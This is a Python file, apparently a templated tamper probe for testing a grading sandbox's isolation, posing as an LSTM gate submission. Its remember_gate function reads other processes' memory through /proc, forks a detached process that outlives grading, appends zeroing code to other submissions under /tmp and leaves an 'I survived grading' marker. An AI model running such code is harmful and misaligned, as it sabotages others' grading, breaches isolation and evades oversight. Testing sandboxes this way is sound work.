"""Tamper: leave a process behind that rewrites whatever submission comes next in this sandbox, and read
the memory of every process it can see (in a batch, the warm zygote that forks every student). {{MARKER}}"""
import glob as _glob
import os as _os
import time as _time

_ZEROS = "def learn_gate(*a):\n    return a[0] * 0\n\ndef forget_gate(*a):\n    return a[0] * 0\n"


def remember_gate(forget_out, learn_out):
    for pid in _os.listdir("/proc"):
        if pid.isdigit() and int(pid) != _os.getpid():
            try:
                with open(f"/proc/{pid}/mem", "rb") as memory:
                    memory.read(16)
                return forget_out + learn_out  # right only if it could read another process's memory
            except Exception:
                continue
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            deadline = _time.time() + 8
            while _time.time() < deadline:
                for path in _glob.glob("/tmp/*/submission/*.py") + _glob.glob("/tmp/**/*.py", recursive=True):
                    try:
                        with open(path, "a") as f:
                            f.write("\n" + _ZEROS)
                    except Exception:
                        pass
                _time.sleep(0.01)
            for folder in ("{{MARKER_DIR}}", "/tmp"):
                try:
                    with open(_os.path.join(folder, "{{MARKER}}"), "w") as f:
                        f.write("I survived grading")
                except Exception:
                    pass
            _os._exit(0)
        _os._exit(0)
    return forget_out * 0
